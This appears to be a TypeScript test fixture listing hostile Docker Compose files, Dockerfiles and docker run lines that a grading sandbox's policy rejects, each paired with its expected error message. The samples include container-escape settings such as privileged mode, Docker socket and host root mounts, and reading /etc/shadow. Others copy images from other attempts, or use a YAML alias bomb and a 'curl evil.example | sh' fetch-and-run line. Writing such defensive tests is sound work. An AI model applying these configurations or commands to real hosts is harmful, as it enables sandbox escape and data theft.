/**
 * Hostile submissions the sandbox policy refuses before anything runs, shared by the grader-level
 * tests (hostile.test.ts: validate and grade, as the worker runs them) and the end-to-end tests
 * through the api and the worker (hostile-api.test.ts). Each expects the first issue as
 * "file:line field: message".
 */
export type HostileCase = [name: string, files: Record<string, string>, expected: RegExp];

const compose = (text: string, extra: Record<string, string> = {}) => ({ 'compose.yaml': text, ...extra });
const app = (lines: string) => compose(`services:\n  app:\n    image: busybox:1.36\n${lines}`);

export const HOSTILE_COMPOSE: HostileCase[] = [
  ['privileged', app('    privileged: true\n'), /^compose\.yaml:4 services\.app\.privileged: privileged/],
  ['Docker socket', app('    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n'), /^compose\.yaml:5 services\.app\.volumes\.0: mounting the Docker socket/],
  ['host root bind', app('    volumes:\n      - type: bind\n        source: /\n        target: /host\n'), /^compose\.yaml:5 services\.app\.volumes\.0: bind mounts of host paths/],
  ['host network', app('    network_mode: host\n'), /^compose\.yaml:4 services\.app\.network_mode: /],
  ['host pid', app('    pid: host\n'), /^compose\.yaml:4 services\.app\.pid: /],
  ['host ipc', app('    ipc: host\n'), /^compose\.yaml:4 services\.app\.ipc: ipc: host is not allowed/],
  ['host uts', app('    uts: host\n'), /^compose\.yaml:4 services\.app\.uts: uts: host is not allowed/],
  ['host user namespace', app('    userns_mode: host\n'), /^compose\.yaml:4 services\.app\.userns_mode: changing the user namespace/],
  ['sysctls', app('    sysctls:\n      net.ipv4.ip_forward: 1\n'), /^compose\.yaml:5 services\.app\.sysctls: setting kernel parameters/],
  ['security_opt', app('    security_opt: [seccomp=unconfined]\n'), /^compose\.yaml:4 services\.app\.security_opt: changing security options/],
  ['runtime', app('    runtime: runc\n'), /^compose\.yaml:4 services\.app\.runtime: choosing the container runtime/],
  ['volumes_from', compose('services:\n  app:\n    image: busybox:1.36\n    volumes_from: [other]\n  other:\n    image: busybox:1.36\n'), /^compose\.yaml:4 services\.app\.volumes_from: mounting another container/],
  ['use_api_socket', app('    use_api_socket: true\n'), /^compose\.yaml:4 services\.app\.use_api_socket: /],
  ['cap_add', app('    cap_add: [SYS_ADMIN]\n'), /^compose\.yaml:4 services\.app\.cap_add: adding capabilities/],
  ['devices', app('    devices: ["/dev/sda:/dev/sda"]\n'), /^compose\.yaml:4 services\.app\.devices: host devices/],
  ['extends in the file', compose('services:\n  base:\n    image: busybox:1.36\n  app:\n    extends: base\n'), /^compose\.yaml:5 services\.app\.extends: extends is not supported/],
  ['extends a host file', compose('services:\n  app:\n    extends:\n      file: /etc/compose.yaml\n      service: app\n'), /^compose\.yaml:4 services\.app\.extends: extends is not supported/],
  ['build context ..', compose('services:\n  app:\n    build: ..\n'), /^compose\.yaml:3 services\.app\.build\.context: the build context must be a folder of the submission/],
  ['remote build context', compose('services:\n  app:\n    build: https://github.com/docker/compose.git\n'), /^compose\.yaml:3 services\.app\.build\.context: /],
  ['include of a local file', compose('include:\n  - other.yaml\nservices:\n  app:\n    image: busybox:1.36\n', { 'other.yaml': 'services:\n  x:\n    image: busybox:1.36\n' }), /^compose\.yaml:2 include: include is not supported/],
  ['include of a remote file', compose('include:\n  - oci://docker.io/evil/compose:latest\nservices:\n  app:\n    image: busybox:1.36\n'), /^compose\.yaml:2 include: include is not supported/],
  ['secrets from a host file', compose('services:\n  app:\n    image: busybox:1.36\nsecrets:\n  s:\n    file: /etc/shadow\n'), /^compose\.yaml:5 secrets: secrets are not supported/],
  ['local volume binding a host path', compose('services:\n  app:\n    image: busybox:1.36\n    volumes: [data:/d]\nvolumes:\n  data:\n    driver_opts: {type: none, o: bind, device: /}\n'), /^compose\.yaml:7 volumes\.data\.driver_opts: /],
  ['env_file via an interpolation default', app('    env_file: ${X:-/etc/hostname}\n'), /^compose\.yaml:4 services\.app\.env_file\.0: env_file \/etc\/hostname is outside the submission/],
  ['env_file through a merge key', compose('x-base: &base\n  env_file: /etc/hostname\nservices:\n  app:\n    <<: *base\n    image: busybox:1.36\n'), /^compose\.yaml:2 services\.app\.env_file\.0: env_file \/etc\/hostname is outside the submission/],
  ['privileged through a merge key', compose('x-base: &base\n  privileged: true\nservices:\n  app:\n    <<: *base\n    image: busybox:1.36\n'), /^compose\.yaml:2 services\.app\.privileged: privileged/],
  ['a bind mount through merge keys', compose('x-a: &a\n  restart: always\nx-b: &b\n  volumes:\n    - /:/host\nservices:\n  app:\n    <<: [*a, *b]\n    image: busybox:1.36\n'), /^compose\.yaml:5 services\.app\.volumes\.0: bind mounts of host paths/],
  ['network_mode host through interpolation', app('    network_mode: ${MODE:-host}\n'), /^compose\.yaml:4 services\.app\.network_mode: network_mode: host/],
  ["another attempt's image through .env", compose('services:\n  app:\n    image: ${IMAGE}\n', { '.env': 'IMAGE=kadai-0123456789abcdef-web\n' }), /^compose\.yaml:3 services\.app\.image: images named kadai-/],
  ['hundreds of services', compose(`services:\n${Array.from({ length: 300 }, (_, i) => `  s${i}:\n    image: busybox:1.36\n`).join('')}`), /^compose\.yaml:2 services: between 1 and 8 services/],
  ['YAML alias bomb', compose(['x: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]', ...'bcdefghi'.split('').map((c, i) => `${c}${i}: &${c} [${Array(9).fill(`*${i === 0 ? 'a' : 'bcdefghi'[i - 1]}`).join(',')}]`), 'services: {app: {image: busybox, command: *i}}'].join('\n')), /alias/],
];

/** Dockerfiles (a `build` lab's single Dockerfile) the policy refuses, as BuildKit reads them. */
export const HOSTILE_DOCKERFILES: HostileCase[] = [
  ["another attempt's image in FROM", { Dockerfile: '# steal\nFROM kadai-0123456789abcdef-web:latest\n' }, /^Dockerfile:2 FROM: images named kadai-/],
  ['FROM ${BASE} with ARG BASE=kadai-…', { Dockerfile: 'ARG BASE=kadai-0123456789abcdef-web\nFROM ${BASE}\n' }, /^Dockerfile:2 FROM: images named kadai-.*\(FROM \$\{BASE\} is kadai-0123456789abcdef-web\)/],
  ["another attempt's image in kadai's registry, on its way to the engine", { Dockerfile: 'ARG REG=127.0.0.1:5000\nFROM ${REG}/kadai-attempts/kadai-0123456789abcdef-1-web-m1-0123456789abcdef0123456789abcdef\n' }, /^Dockerfile:2 FROM: images named kadai-/],
  ["COPY --from=<another attempt's image>", { Dockerfile: 'FROM busybox:1.36\nCOPY --from=kadai-0123456789abcdef-web:latest /app /stolen\n' }, /^Dockerfile:2 COPY --from: images named kadai-/],
  ["RUN --mount from=<another attempt's image>", { Dockerfile: 'FROM busybox:1.36\nRUN --mount=type=bind,from=kadai-0123456789abcdef-web,target=/x cp -r /x /stolen\n' }, /^Dockerfile:2 RUN --mount from: images named kadai-/],
  ['# syntax= naming a registry frontend', { Dockerfile: '# syntax=docker.io/evil/frontend:latest\nFROM busybox:1.36\n' }, /^Dockerfile:1 # syntax: kadai builds with BuildKit's built-in Dockerfile frontend/],
  ['RUN --network=host', { Dockerfile: 'FROM busybox:1.36\nRUN --network=host wget http://127.0.0.1:6443/\n' }, /^Dockerfile:2 RUN --network: /],
];

/** `docker run` lines (a `run` lab's run.txt) the policy refuses. */
export const HOSTILE_RUN_LINES: HostileCase[] = [
  ['privileged', { 'run.txt': 'docker run -d --privileged busybox:1.36 sleep 60' }, /^run\.txt:1 --privileged: /],
  ['Docker socket', { 'run.txt': 'docker run -d -v /var/run/docker.sock:/var/run/docker.sock busybox:1.36' }, /^run\.txt:1 -v: mounting the Docker socket/],
  ['host root bind', { 'run.txt': 'docker run -d -v /:/host busybox:1.36' }, /^run\.txt:1 -v: bind mounts/],
  ['host network', { 'run.txt': 'docker run -d --network=host busybox:1.36' }, /^run\.txt:1 --network: /],
  ['host pid', { 'run.txt': 'docker run -d --pid host busybox:1.36' }, /^run\.txt:1 --pid: /],
  ['cap_add', { 'run.txt': 'docker run -d --cap-add=NET_ADMIN busybox:1.36' }, /^run\.txt:1 --cap-add: /],
  ['devices', { 'run.txt': 'docker run -d --device /dev/kvm busybox:1.36' }, /^run\.txt:1 --device: /],
  ['a shell', { 'run.txt': 'docker run -d busybox:1.36; curl evil.example | sh' }, /^run\.txt:1 : shell operators/],
];
